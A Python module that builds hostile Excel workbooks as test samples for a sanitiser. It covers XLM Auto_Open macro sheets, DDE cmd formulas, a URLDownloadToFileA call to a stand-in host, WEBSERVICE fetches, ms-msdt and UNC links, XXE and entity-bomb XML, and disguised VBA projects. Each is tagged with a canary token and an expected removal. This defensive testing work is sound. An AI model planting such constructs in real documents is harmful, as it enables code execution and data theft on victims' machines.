"""Hostile workbooks: (case, extension, bytes, why). Every dropped piece carries a token TZCANARY…; what stays carries none."""
import base64
import struct

from _office import CHART_TYPE, DRAWING, HEAD, OFFICE, PACKAGE, VND, chart, esc, png, zip_of
from _workbook import BOOK, F, MAIN, SHEET, edit, one_sheet, set_sheet, workbook, worksheet

MS = "http://schemas.microsoft.com/office"
XM = "http://schemas.microsoft.com/office/excel/2006/main"
STRICT = "http://purl.oclc.org/ooxml"
XLSM = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
ROW = [["氏名", "点"], ["佐藤", 90]]


def token(n):
    return f"TZCANARYxl{n}"


def why(what, row, result="What runs, calls out or hides does not come out; the cells people see do."):
    return [what, result, f"file-rules 2.1, {row}."]


def bytes_of(p):
    return p.data()


def macro_sheet(rel="xlMacrosheet", state="veryHidden", folder="macrosheets", kind="application/vnd.ms-excel.macrosheet+xml", root="xm:macrosheet", n=1):
    t = token(n)
    p = workbook([("Sheet1", worksheet(ROW))], names=f'<definedName name="_xlnm.Auto_Open" hidden="1">{t}!$A$1</definedName>')
    body = (f'{HEAD}<{root} xmlns="{MAIN}" xmlns:xm="{XM}"><sheetData><row r="1"><c r="A1"><f>EXEC("{t} calc")</f><v>0</v></c></row>'
            f'<row r="2"><c r="A2" t="inlineStr"><is><t>{t}</t></is></c></row><row r="3"><c r="A3"><f>HALT()</f><v>0</v></c></row></sheetData></{root}>')
    p.part(f"xl/{folder}/sheet9.xml", body, kind)
    rel_type = rel if rel in ("dialogsheet", "worksheet") else f"{MS}/2006/relationships/{rel}"
    rid = p.rel("xl/workbook.xml", rel_type, f"{folder}/sheet9.xml")
    return edit(p, "xl/workbook.xml", "</sheets>", f'<sheet name="{t}" sheetId="9" state="{state}" r:id="{rid}"/></sheets>')


def formula(text, value="値"):
    """A sheet whose second row calculates text."""
    return one_sheet([["計算"], [F(text, value)], ["そのあと"]])


def names(markup):
    return workbook([("Sheet1", worksheet(ROW))], names=markup)


def link_part(body, n, formula_text=None):
    p = one_sheet([["外部"], [F(formula_text, "7") if formula_text else 7]])
    p.part("xl/externalLinks/externalLink1.xml", f'{HEAD}<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}">{body}</externalLink>', VND + "spreadsheetml.externalLink+xml")
    rid = p.rel("xl/workbook.xml", "externalLink", "externalLinks/externalLink1.xml")
    p.rel("xl/externalLinks/externalLink1.xml", "externalLinkPath", f"file:///\\\\{token(n)}\\share\\a.xlsx", True, "rId1")
    return edit(p, "xl/workbook.xml", "</sheets>", f'</sheets><externalReferences><externalReference r:id="{rid}"/></externalReferences>')


def hyperlink(target=None, location=None, n=0):
    p = one_sheet([["ここをクリック"]])
    attributes = ""
    if target:
        attributes += f' r:id="{p.rel("xl/worksheets/sheet1.xml", "hyperlink", target, True)}"'
    if location:
        attributes += f' location="{esc(location)}"'
    set_sheet(p, 1, [["ここをクリック"]], after=f'<hyperlinks><hyperlink ref="A1"{attributes}/></hyperlinks>')
    return p


def extra_part(owner, rel, name, body, kind, n=0, markup=None):
    """A part beside a plain sheet; markup goes into the owner before its end."""
    p = one_sheet(ROW)
    p.part(name, body, kind)
    depth = owner.count("/")
    rid = p.rel(owner, rel, "../" * depth + name if owner else name)
    if markup:
        end = "</workbook>" if owner == "xl/workbook.xml" else "</worksheet>"
        edit(p, owner, end, markup.replace("{id}", rid) + end)
    return p


def drawing(body, rels=(), n=0):
    p = one_sheet(ROW)
    p.part("xl/drawings/drawing1.xml", f'{HEAD}<xdr:wsDr xmlns:xdr="{DRAWING}/spreadsheetDrawing" xmlns:a="{DRAWING}/main" xmlns:r="{OFFICE}" '
           f'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">{body}</xdr:wsDr>', VND + "drawing+xml")
    rid = p.rel("xl/worksheets/sheet1.xml", "drawing", "../drawings/drawing1.xml")
    for kind, target, external in rels:
        p.rel("xl/drawings/drawing1.xml", kind, target, external)
    set_sheet(p, 1, ROW, after=f'<drawing r:id="{rid}"/>')
    return p


def anchor(inner):
    place = "<xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>2</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>"
    return f'<xdr:twoCellAnchor>{place}{place.replace("from", "to").replace(">1<", ">4<").replace(">2<", ">8<")}{inner}<xdr:clientData/></xdr:twoCellAnchor>'


def shape(attributes="", click="", text="押す"):
    return (f'<xdr:sp{attributes}><xdr:nvSpPr><xdr:cNvPr id="2" name="図形 1">{click}</xdr:cNvPr><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr><a:xfrm><a:off x="0" y="0"/>'
            f'<a:ext cx="900000" cy="400000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr><xdr:txBody><a:bodyPr/><a:p><a:r><a:t>{text}</a:t></a:r></a:p></xdr:txBody></xdr:sp>')


def picture(embed):
    return (f'<xdr:pic><xdr:nvPicPr><xdr:cNvPr id="3" name="図 1"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip {embed}/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill>'
            '<xdr:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr></xdr:pic>')


def conditional(inner, ext=False):
    if not ext:
        return one_sheet(ROW, after=f'<conditionalFormatting sqref="A1:B2">{inner}<cfRule type="expression" dxfId="0" priority="2"><formula>B2&gt;80</formula></cfRule></conditionalFormatting>')
    return one_sheet(ROW, root=' xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"',
                     after=f'<extLst>{inner}</extLst>')


def pivot(source, extra=""):
    p = one_sheet(ROW)
    p.part("xl/pivotCache/pivotCacheDefinition1.xml", f'{HEAD}<pivotCacheDefinition xmlns="{MAIN}" xmlns:r="{OFFICE}" refreshOnLoad="1" refreshedBy="{token(700)}" recordCount="0"{extra}>{source}'
           '<cacheFields count="1"><cacheField name="点" numFmtId="0"><sharedItems/></cacheField></cacheFields></pivotCacheDefinition>', VND + "spreadsheetml.pivotCacheDefinition+xml")
    p.part("xl/pivotTables/pivotTable1.xml", f'{HEAD}<pivotTableDefinition xmlns="{MAIN}" name="ピボット" cacheId="4" dataCaption="値"><location ref="D1:E3" firstHeaderRow="1" firstDataRow="1" firstDataCol="1"/>'
           '<pivotFields count="1"><pivotField showAll="0"/></pivotFields></pivotTableDefinition>', VND + "spreadsheetml.pivotTable+xml")
    rid = p.rel("xl/workbook.xml", "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")
    p.rel("xl/worksheets/sheet1.xml", "pivotTable", "../pivotTables/pivotTable1.xml")
    p.rel("xl/pivotTables/pivotTable1.xml", "pivotCacheDefinition", "../pivotCache/pivotCacheDefinition1.xml")
    return edit(p, "xl/workbook.xml", "</workbook>", f'<pivotCaches><pivotCache cacheId="4" r:id="{rid}"/></pivotCaches></workbook>')


def with_chart(part):
    p = drawing(anchor('<xdr:graphicFrame macro=""><xdr:nvGraphicFramePr><xdr:cNvPr id="2" name="グラフ 1"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr><xdr:xfrm><a:off x="0" y="0"/>'
                       f'<a:ext cx="0" cy="0"/></xdr:xfrm><a:graphic><a:graphicData uri="{DRAWING}/chart"><c:chart xmlns:c="{DRAWING}/chart" r:id="rId1"/></a:graphicData></a:graphic></xdr:graphicFrame>'),
                [("chart", "../charts/chart1.xml", False)])
    p.part("xl/charts/chart1.xml", part, CHART_TYPE)
    return p


def vml(shapes):
    p = one_sheet(ROW)
    p.defaults["vml"] = VND + "vmlDrawing"
    p.part("xl/drawings/vmlDrawing1.vml", f'<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel">{shapes}</xml>')
    rid = p.rel("xl/worksheets/sheet1.xml", "vmlDrawing", "../drawings/vmlDrawing1.vml")
    p.part("xl/comments1.xml", f'{HEAD}<comments xmlns="{MAIN}"><authors><author>総務課</author></authors><commentList><comment ref="A1" authorId="0"><text><t>確認してください</t></text></comment></commentList></comments>',
           VND + "spreadsheetml.comments+xml")
    p.rel("xl/worksheets/sheet1.xml", "comments", "../comments1.xml")
    set_sheet(p, 1, ROW, after=f'<legacyDrawing r:id="{rid}"/>')
    return p


NOTE = ('<v:shape id="_x0000_s1025" type="#_x0000_t202" style="position:absolute;visibility:hidden" fillcolor="#ffffe1"{more}><v:textbox/>'
        '<x:ClientData ObjectType="Note"><x:MoveWithCells/><x:Anchor>1, 15, 0, 2, 3, 15, 4, 4</x:Anchor><x:Row>0</x:Row><x:Column>0</x:Column></x:ClientData></v:shape>')


def macro_package(name="xl/vbaProject.bin", rel=None, main=XLSM):
    p = workbook([("Sheet1", worksheet(ROW, before=f'<sheetPr codeName="{token(300)}"/>'))], before=f'<workbookPr codeName="{token(301)}"/>', main_type=main)
    p.part(name, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + token(302).encode() * 20, "application/vnd.ms-office.vbaProject")
    p.rel("xl/workbook.xml", rel or f"{MS}/2006/relationships/vbaProject", name.removeprefix("xl/"))
    return p


def mashup(n):
    inner = zip_of([("Formulas/Section1.m", f'section Section1; shared q = Web.Contents("http://{token(n)}.example/");')])
    blob = struct.pack("<II", 0, len(inner)) + inner + bytes(12)
    p = one_sheet(ROW)
    p.part("customXml/item1.xml", (f'<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="http://schemas.microsoft.com/DataMashup">{base64.b64encode(blob).decode()}</DataMashup>').encode("utf-16"))
    p.rel("", "customXml", "customXml/item1.xml")
    p.part("xl/connections.xml", f'{HEAD}<connections xmlns="{MAIN}"><connection id="1" keepAlive="1" name="クエリ" type="5" refreshedVersion="6" background="1"><dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Location={token(n)}" command="SELECT * FROM [{token(n)}]"/></connection></connections>',
           VND + "spreadsheetml.connections+xml")
    p.rel("xl/workbook.xml", "connections", "connections.xml")
    return p


def connection(inner, n):
    p = one_sheet(ROW)
    p.part("xl/connections.xml", f'{HEAD}<connections xmlns="{MAIN}"><connection id="1" name="{token(n)}" type="4" refreshOnLoad="1">{inner}</connection></connections>', VND + "spreadsheetml.connections+xml")
    p.rel("xl/workbook.xml", "connections", "connections.xml")
    p.part("xl/queryTables/queryTable1.xml", f'{HEAD}<queryTable xmlns="{MAIN}" name="{token(n)}" connectionId="1"/>', VND + "spreadsheetml.queryTable+xml")
    p.rel("xl/worksheets/sheet1.xml", "queryTable", "../queryTables/queryTable1.xml")
    return p


def strict(p):
    """The same package in the namespaces of ISO 29500 Strict."""
    swaps = [("http://schemas.openxmlformats.org/spreadsheetml/2006/main", f"{STRICT}/spreadsheetml/main"), (OFFICE, f"{STRICT}/officeDocument/relationships"),
             ("http://schemas.openxmlformats.org/drawingml/2006/main", f"{STRICT}/drawingml/main"), ("http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing", f"{STRICT}/drawingml/spreadsheetDrawing"),
             ("http://schemas.openxmlformats.org/officeDocument/2006/extended-properties", f"{STRICT}/officeDocument/extendedProperties")]
    out = []
    for name, body in p.entries():
        if name.endswith((".xml", ".rels")):
            text = body.decode()
            for old, new in swaps:
                text = text.replace(old, new)
            body = text.encode()
        out.append((name, body))
    return zip_of(out)


def raw_entries(p, change):
    entries = dict(p.entries())
    change(entries)
    return zip_of(list(entries.items()))


def disagreeing_headers(p):
    """The local header of the sheet has another name than the directory."""
    data = p.data()
    at = data.find(b"xl/worksheets/sheet1.xml")
    return data[:at] + b"xl/worksheets/sheetX.xml" + data[at + 24:]


def replace_sheet(xml):
    p = one_sheet(ROW)
    p.parts["xl/worksheets/sheet1.xml"] = xml if isinstance(xml, bytes) else xml.encode()
    return p


def samples():
    rows = []

    def add(case, p, text, row, ending="xlsx", **more):
        rows.append((case, ending, p if isinstance(p, bytes) else p.data(), why(text, row, **more)))

    # XLM 4.0.
    add("xlm-macro-sheet", macro_sheet(), "A very hidden XLM macro sheet that runs by the name Auto_Open.", "XLM 4.0", "xlsm")
    add("xlm-intl-macro-sheet", macro_sheet("xlIntlMacrosheet", "hidden", kind="application/vnd.ms-excel.intlmacrosheet+xml", n=2), "An international macro sheet.", "XLM 4.0", "xlsm")
    add("xlm-dialog-sheet", macro_sheet("dialogsheet", "visible", "dialogsheets", VND + "spreadsheetml.dialogsheet+xml", "dialogsheet", 3), "An Excel 5 dialog sheet.", "XLM 4.0")
    add("xlm-renamed-part", macro_sheet(folder="worksheets", n=4), "A macro sheet whose part lies among the worksheets.", "XLM 4.0")
    add("names-that-run", names("".join(f'<definedName name="{n}"{a}>{token(10)}!$A$1</definedName>' for n, a in [
        ("Auto_Open", ""), ("auto_close2", ""), ("_xlnm.Auto_Activate", ' hidden="1"'), ("Ａｕｔｏ＿Ｏｐｅｎ", ""), ("fn", ' function="1"'), ("xl", ' xlm="1"'), ("vb", ' vbProcedure="1"')])),
        "Names that Excel runs, in several cases and widths, and names marked as macros.", "definedName")
    add("names-hidden", names(f'<definedName name="_x" hidden="1">"{token(11)}"</definedName><definedName name="合計" comment="使う">Sheet1!$B$2</definedName>'), "A hidden name that holds a text.", "definedName")
    p = workbook([("Sheet1", worksheet([["点"], [F("chain2+1", "8")]]))], names=f'<definedName name="chain1">EXEC("{token(12)}")</definedName><definedName name="chain2">chain1</definedName>')
    long = "".join(f'<definedName name="n{n}">n{n - 1}+1</definedName>' for n in range(1, 400))
    add("names-in-a-long-chain", workbook([("Sheet1", worksheet([["点"], [F("n399+1", "8")]]))], names=f'<definedName name="n0">EXEC("{token(970)}")</definedName>{long}<definedName name="残る">Sheet1!$A$1</definedName>'),
        "400 names, each of which uses the one before; the first runs a program.", "definedName")
    add("names-in-a-chain", p, "A cell uses a name that uses a name that runs a program.", "definedName")

    # DDE and formulas that reach outside.
    add("dde-cell", formula(f"cmd|'/C {token(20)}'!A0"), "A DDE formula that starts a program.", "active formulas")
    add("dde-quoted-service", formula(f"'cmd'|'/C {token(21)}'!'A0'"), "DDE with quotes round its service.", "active formulas")
    add("dde-full-width", formula(f"ＣＭＤ｜'/C {token(22)}'!A0"), "DDE in full-width letters.", "active formulas")
    add("dde-inside-sum", formula(f"SUM(1,MSEXCEL|'\\..\\..\\{token(23)}.exe'!A1)"), "DDE inside a function.", "active formulas")
    for n, (case, text) in enumerate([
            ("webservice", 'WEBSERVICE("http://{t}.example/")'), ("webservice-xlfn", '_xlfn.WEBSERVICE("http://{t}.example/"&amp;A1)'.replace("&amp;", "&")), ("filterxml", '_xlfn.FILTERXML("<a>{t}</a>","//a")'),
            ("rtd", 'RTD("{t}.server",,"x")'), ("call", 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://{t}.example/","c:\\a.exe",0,0)'), ("register", 'REGISTER.ID("{t}","x")'),
            ("exec-full-width", 'ＥＸＥＣ（"{t}"）'), ("image", '_xlfn.IMAGE("http://{t}.example/a.png")'), ("stockhistory", '_xlfn.STOCKHISTORY("{t}",TODAY())'), ("add-in", '_xll.Run("{t}")'),
            ("python", '_xlfn._xlws.PY(0,1,"{t}")'), ("macro-call", "{t}Macro(1)"), ("cube", 'CUBEVALUE("{t}","[Measures]")'), ("sql-request", 'SQL.REQUEST("DSN={t}")')], 30):
        add(f"formula-{case}", formula(text.replace("{t}", token(n))), f"A formula that fetches, runs or calls: {case}.", "active formulas")
    for n, (case, text) in enumerate([
            ("file", 'HYPERLINK("file:///c:/{t}.exe","開く")'), ("unc", 'HYPERLINK("\\\\{t}\\share\\a","開く")'), ("concatenated", 'HYPERLINK("http://{t}.example/"&A1,"開く")'), ("search-ms", 'HYPERLINK("search-ms:query={t}","開く")'),
            ("ms-msdt", 'HYPERLINK("ms-msdt:/id {t}","開く")'), ("other-book", 'HYPERLINK("[{t}.xlsx]Sheet1!A1","開く")')], 50):
        add(f"hyperlink-formula-{case}", formula(text.replace("{t}", token(n)), "開く"), f"HYPERLINK() to what a mail may not open: {case}.", "hyperlinks")
    for n, (case, text) in enumerate([
            ("as-value", '_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f("http://{t}.example/"))'), ("in-brackets", '(WEBSERVICE)("http://{t}.example/")'),
            ("range-of-books", "'\\\\{t}\\s\\[a.xlsx]X':'Sheet1'!A1"), ("blank-behind-book", "[{t}.xlsx] Sheet1!A1"), ("moniker", 'HYPERLINK("http://a/!x-usc:http://{t}")')], 960):
        add(f"formula-{case}", formula(text.replace("{t}", token(n))), f"A formula that reaches outside by a way round: {case}.", "active formulas")
    add("external-book", link_part(f'<externalBook r:id="rId1"><sheetNames><sheetName val="{token(60)}"/></sheetNames></externalBook>', 60, "[1]Sheet1!A1*2"), "A formula that reads another workbook.", "OLE/DDE links")
    add("dde-link-part", link_part(f'<ddeLink ddeService="cmd" ddeTopic="/C {token(61)}"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>', 61, "[1]!A0"), "A DDE link in a part of its own.", "OLE/DDE links")
    add("ole-link-part", link_part(f'<oleLink r:id="rId1" progId="{token(62)}"><oleItems><oleItem name="x"/></oleItems></oleLink>', 62), "An OLE link to a file on a server.", "OLE/DDE links")
    add("path-in-formula", formula(f"'\\\\{token(63)}\\share\\[a.xlsx]Sheet1'!A1"), "A formula with the path of another workbook.", "active formulas")

    # Links and locations.
    for n, (case, target) in enumerate([("file", "file:///c:/{t}/a.exe"), ("unc", "\\\\{t}\\share\\a.docx"), ("search-ms", "search-ms:query=x&crumb=location:\\\\{t}"), ("javascript", "javascript:{t}()"),
                                        ("moniker", "http://{t}.example/a!x-usc:http://b"), ("null", "http://{t}.example/%00"), ("mhtml", "mhtml:http://{t}.example/!x"), ("relative", "../{t}.exe")], 70):
        add(f"link-{case}", hyperlink(target.replace("{t}", token(n))), f"A cell's link: {case}.", "hyperlinks")
    add("link-location", hyperlink(None, f"[{token(78)}.xlsx]Sheet1!A1"), "A place in another workbook as the location of a link.", "hyperlinks")

    # Where else formulas stand.
    add("validation-formula", one_sheet(ROW, after=f'<dataValidations count="2"><dataValidation type="custom" sqref="A1" promptTitle="{token(80)}"><formula1>WEBSERVICE("{token(80)}")</formula1></dataValidation>'
                                        '<dataValidation type="list" sqref="B1"><formula1>"東,西"</formula1></dataValidation></dataValidations>'), "Data validation that fetches.", "data validation / CF / names")
    add("validation-only", one_sheet(ROW, after=f'<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>[1]Sheet1!$A$1:$A${80}</formula1><formula2>"{token(81)}"</formula2></dataValidation></dataValidations>'),
        "The only data validation reads another workbook: no empty list stays behind.", "data validation / CF / names")
    add("condition-formula", conditional(f'<cfRule type="expression" dxfId="0" priority="1"><formula>CALL("{token(82)}","x")</formula></cfRule>'), "A conditional format that calls a library.", "data validation / CF / names")
    add("condition-threshold", conditional(f'<cfRule type="colorScale" priority="1"><colorScale><cfvo type="formula" val="EXEC(&quot;{token(83)}&quot;)"/><cfvo type="max"/><color rgb="FFFF0000"/><color rgb="FF00FF00"/></colorScale></cfRule>'),
        "A colour scale with a formula as limit.", "data validation / CF / names")
    add("condition-extension", conditional('<ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"><x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type="expression" priority="1" id="{1}">'
        f'<xm:f>WEBSERVICE("{token(84)}")</xm:f></x14:cfRule><xm:sqref>A1</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext><ext uri="{{11111111-2222-3333-4444-555555555555}}"><unknown>{token(84)}</unknown></ext>', True),
        "A conditional format in an extension, and an extension nobody knows.", "data validation / CF / names")
    add("shared-formula-lies", replace_sheet(worksheet([["x"], [F(f'EXEC("{token(85)}")', "1", ' t="shared" ref="A2:A9" si="0"')], [F("", "2", ' t="shared" si="0"')], [F("", "3", ' t="shared" si="7"')], [F("A1&\"x\"", "4x", ' t="array" ref="A5"')]])),
        "Cells that share the formula of a cell whose formula goes, or of a cell that is not there.", "active formulas")
    add("table-formula", table_with_formula(86), "A table whose column calculates with WEBSERVICE and is bound to a schema.", "active formulas")
    add("chart-formulas", with_chart(chart("line").replace("Sheet1!$B$2:$B$4", f"'[{token(87)}.xlsx]Sheet1'!$B$2:$B$4")), "A chart whose values come from another workbook.", "active formulas")
    p = with_chart(chart("pie", extra='<c:externalData r:id="rId1"><c:autoUpdate val="1"/></c:externalData>'))
    p.rel("xl/charts/chart1.xml", "oleObject", f"file:///\\\\{token(88)}\\a.xlsx", True)
    add("chart-external-data", p, "A chart that loads its data from a server.", "OLE/package")

    # Data from elsewhere.
    add("connection-database", connection(f'<dbPr connection="DSN={token(90)}" command="select {token(90)}"/>', 90), "A database connection that refreshes on opening, with a query table.", "data connections")
    add("connection-web", connection(f'<webPr url="http://{token(91)}.example/" htmlTables="1"/>', 91), "A web query.", "data connections")
    add("connection-text", connection(f'<textPr sourceFile="\\\\{token(92)}\\a.csv"/>', 92), "A text import from a server.", "data connections")
    add("power-query", mashup(93), "Power Query: DataMashup in customXml, in UTF-16, and its connection.", "data connections")
    add("data-model", extra_part("xl/workbook.xml", "powerPivotData", "xl/model/item.data", token(94).encode() * 9, "application/vnd.openxmlformats-officedocument.model+data"), "A Power Pivot model.", "data connections")
    add("web-publish", one_sheet(ROW, after=f'<webPublishItems count="1"><webPublishItem id="1" divId="{token(95)}" sourceType="sheet" destinationFile="\\\\{token(95)}\\a.htm" autoRepublish="1"/></webPublishItems>'), "A sheet that publishes itself.", "data connections")
    add("pivot-external-source", pivot(f'<cacheSource type="external" connectionId="1"><extLst><ext uri="{token(96)}"/></extLst></cacheSource>'), "A pivot table of an external source.", "data connections")
    add("pivot-other-book", pivot(f'<cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="{token(97)}" r:id="rId9"/></cacheSource>'), "A pivot table of a sheet in another workbook.", "data connections")
    add("pivot-refresh-on-load", pivot('<cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="Sheet1"/></cacheSource>'), "A pivot table of this workbook that refreshes on opening.", "data connections",
        result="The pivot table stays, without the refresh and the name of who refreshed.")
    p = one_sheet(ROW)
    p.part("xl/xmlMaps.xml", f'{HEAD}<MapInfo xmlns="{MAIN}" SelectionNamespaces=""><Schema ID="S1"><x xmlns="{token(98)}"/></Schema><Map ID="1" Name="{token(98)}" RootElement="a" SchemaID="S1"><DataBinding FileBinding="true" DataBindingLoadMode="1"/></Map></MapInfo>')
    p.rel("xl/workbook.xml", "xmlMaps", "xmlMaps.xml")
    add("xml-maps", p, "An XML map bound to a file.", "custom XML")

    # Programs and add-ins.
    add("vba", macro_package(), "A workbook with a VBA project and code names.", "VBA", "xlsm")
    add("vba-renamed", macro_package("xl/media/image7.png", main=BOOK), "The VBA project under the name of a picture.", "VBA")
    add("vba-as-printer-settings", macro_package("xl/printerSettings/printerSettings1.bin", "printerSettings", BOOK), "The VBA project under the relationship of printer settings.", "VBA")
    add("ribbon-2007", extra_part("", f"{MS}/2006/relationships/ui/extensibility", "customUI/customUI.xml", f'<customUI xmlns="{MS}/2006/01/customui" onLoad="{token(110)}"/>', "application/xml"), "A ribbon with code.", "add-ins/ribbon")
    add("ribbon-2010", extra_part("", f"{MS}/2007/relationships/ui/extensibility", "customUI/customUI14.xml", f'<customUI xmlns="{MS}/2009/07/customui" onLoad="{token(111)}"/>', "application/xml"), "A ribbon of Office 2010.", "add-ins/ribbon")
    add("web-extension", extra_part("", f"{MS}/2011/relationships/webextensiontaskpanes", "xl/webextensions/taskpanes.xml", f'<wetp:taskpanes xmlns:wetp="{MS}/webextensions/taskpanes/2010/11"><wetp:taskpane dockstate="{token(112)}" visibility="1"/></wetp:taskpanes>',
        "application/vnd.ms-office.webextensiontaskpanes+xml"), "A web add-in in a task pane.", "add-ins/ribbon")
    add("vsto", extra_part("", "custom-properties", "docProps/custom.xml", f'{HEAD}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
        f'<property fmtid="{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}" pid="2" name="_AssemblyLocation"><vt:lpwstr>http://{token(113)}.example/a.vsto</vt:lpwstr></property></Properties>', VND + "custom-properties+xml"), "A VSTO add-in named in the properties.", "add-ins/ribbon")
    add("active-x", active_x(114), "An ActiveX control with its data.", "ActiveX/form controls")
    add("form-control-macro", form_control(115), "A form control that calls a macro, drawn in VML.", "ActiveX/form controls")
    add("ole-object", ole(116), "An embedded OLE object.", "OLE/package")
    add("embedded-package", ole(117, "package", "xl/embeddings/a.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"), "An embedded document.", "OLE/package")
    add("linked-object", ole(118, external=True), "An object linked to a file on a server.", "OLE/package")
    add("shape-macro", drawing(anchor(shape(f' macro="[0]!{token(119)}" textlink="[1]{token(119)}!A1"')) + anchor(shape(' macro=""', text="何もしない"))), "A shape that runs a macro on a click.", "VBA")
    add("shape-links", drawing(anchor(shape("", '<a:hlinkClick r:id="rId1" action="ppaction://macro?name=' + token(120) + '"/>')) + anchor(shape("", '<a:hlinkHover r:id="rId2"/>')),
                               [("hyperlink", f"file:///c:/{token(120)}.exe", True), ("hyperlink", f"\\\\{token(120)}\\a", True)]), "Links on shapes: a macro, a file, a server.", "hyperlinks")
    add("linked-picture", drawing(anchor(picture('r:link="rId1"')) + anchor(picture('r:embed="rId2"')), [("image", f"http://{token(121)}.example/a.png", True), ("image", f"\\\\{token(121)}\\b.png", True)]),
        "Pictures that are fetched from a server.", "external media/images")
    add("note-shape-links", vml(NOTE.format(more=f' href="http://{token(122)}.example/" onclick="{token(122)}"') + f'<v:shape style="x"><v:imagedata src="http://{token(122)}.example/a.png" r:href="rId9" xmlns:r="{OFFICE}"/>'
                                f'<x:ClientData ObjectType="Button"><x:FmlaMacro>{token(122)}</x:FmlaMacro></x:ClientData></v:shape>'), "VML behind a comment with links and a button beside it.", "external media/images")
    add("header-picture", header_picture(123), "A picture in the header, fetched from a server by VML.", "external media/images")

    # Package and XML.
    add("content-types-lie", workbook([("Sheet1", worksheet(ROW))], main_type="application/vnd.ms-excel.addin.macroEnabled.main+xml"), "The workbook says it is an add-in.", "package", "xlam",
        result="It is written as a plain workbook.")
    add("template", workbook([("Sheet1", worksheet(ROW))], main_type=VND + "spreadsheetml.template.main+xml"), "A template.", "package", "xltx", result="It is written as a plain workbook.")
    add("strict-dde", strict(formula(f"cmd|'/C {token(130)}'!A0")), "DDE in the namespaces of Strict.", "XML")
    add("strict-macro-sheet", strict(macro_sheet("dialogsheet", "veryHidden", "dialogsheets", VND + "spreadsheetml.dialogsheet+xml", "dialogsheet", 131)), "A dialog sheet in the namespaces of Strict.", "XML")
    add("utf16-sheet", replace_sheet(worksheet([["値"], [F(f"cmd|'/C {token(132)}'!A0", "1")]]).replace("UTF-8", "UTF-16").encode("utf-16")), "A sheet in UTF-16.", "XML")
    add("utf7-sheet", replace_sheet(worksheet([["x"], [token(133)]]).replace("UTF-8", "UTF-7")), "A sheet that claims UTF-7.", "XML", result="The file is withheld: no other encoding is read.")
    add("doctype-entities", replace_sheet(f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "{token(134)}"><!ENTITY b SYSTEM "file:///etc/{token(134)}">]>{worksheet([["x"]]).partition("?>")[2].strip().replace(">x<", ">&a;&b;<")}'),
        "A document type with inner and outer entities.", "XML", result="The file is withheld: no document type is read.")
    add("entity-bomb", replace_sheet('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + token(135) + '">' + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + f']><worksheet xmlns="{MAIN}">&j;</worksheet>'),
        "Entities that grow a billionfold.", "XML", result="The file is withheld: no document type is read.")
    add("deep-elements", replace_sheet(f'{HEAD}<worksheet xmlns="{MAIN}">' + "<a>" * 5000 + token(136) + "</a>" * 5000 + "</worksheet>"), "Elements in elements, 5,000 deep.", "XML", result="The file is withheld: the depth has a bound.")
    add("dimension-bomb", replace_sheet(worksheet(ROW, before='<dimension ref="A1:XFD1048576"/>', after='<mergeCells count="1"><mergeCell ref="D1:XFD1048576"/></mergeCells>').replace("</sheetData>", f'<row r="1048576"><c r="XFD1048576"><f>RTD("{token(137)}")</f><v>1</v></c></row></sheetData>')),
        "A sheet that claims all cells there are.", "XML", result="It is streamed: memory does not grow with what is claimed.")
    add("alternate-content", one_sheet(ROW, root=' xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" mc:MustUnderstand="x14"',
        after=f'<mc:AlternateContent><mc:Choice Requires="x14"><controls><control shapeId="1" name="{token(138)}"/></controls></mc:Choice><mc:Fallback><webPublishItems><webPublishItem destinationFile="{token(138)}"/></webPublishItems></mc:Fallback></mc:AlternateContent>'),
        "Controls in one branch of alternate content, publishing in the other.", "XML")
    add("printer-settings", extra_part("xl/worksheets/sheet1.xml", "printerSettings", "xl/printerSettings/printerSettings1.bin", token(139).encode("utf-16-le") * 5, VND + "spreadsheetml.printerSettings", markup='<pageSetup r:id="{id}"/>'), "Printer settings with the name of a printer.", "binaries")
    add("thumbnail", extra_part("", f"{PACKAGE}/relationships/metadata/thumbnail", "docProps/thumbnail.emf", token(140).encode() * 4, "image/x-emf"), "A thumbnail picture.", "binaries")
    add("signature", extra_part("", f"{PACKAGE}/relationships/digital-signature/origin", "_xmlsignatures/origin.sigs", token(141), "application/vnd.openxmlformats-package.digital-signature-origin"), "A signed workbook.", "signatures")
